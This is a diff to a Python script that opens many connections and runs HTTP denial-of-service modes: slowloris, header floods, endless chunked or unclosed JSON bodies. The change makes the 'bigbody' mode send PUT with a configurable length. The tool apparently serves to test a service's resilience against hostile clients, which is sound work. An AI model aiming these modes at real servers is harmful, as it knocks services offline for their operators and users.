@@ -15,7 +15,8 @@ Modes:
   slowloris a request head one byte every 2 s, never finished
   headers   a request line, then 100000 small header lines, then one of 1 MiB
   chunked   POST with Transfer-Encoding: chunked, 4 KiB chunks without end
-  bigbody   POST with Content-Length 1 GiB, a JSON array that never closes
+  bigbody   PUT with a Content-Length of $HOSTILE_LENGTH bytes (default 1 GiB)
+            the route accepts, a JSON array sent as fast as it goes, never closed
   jsonchunk POST with a chunked JSON body that never ends ("[[[[...")
 
 PATH (default /) is the request path; SOURCES N (tcp only) spreads the
@@ -42,8 +43,8 @@ open_now = 0
 stopping = False
 
 
-def head(extra):
-    return ("POST %s HTTP/1.1\r\nHost: fleet\r\nContent-Type: application/json\r\n%s" % (path, extra)).encode()
+def head(extra, method="POST"):
+    return ("%s %s HTTP/1.1\r\nHost: fleet\r\nContent-Type: application/json\r\n%s" % (method, path, extra)).encode()
 
 
 async def connect(i):
@@ -84,7 +85,8 @@ async def attack(w):
         while True:
             await send(w, chunk)
     elif mode == "bigbody":
-        await send(w, head("Content-Length: %d\r\n\r\n" % (1 << 30)) + b"[")
+        n = int(os.environ.get("HOSTILE_LENGTH", 1 << 30))
+        await send(w, head("Content-Length: %d\r\n\r\n" % n, "PUT") + b"[")
         while True:
             await send(w, b"0," * 32768)
     elif mode == "jsonchunk":
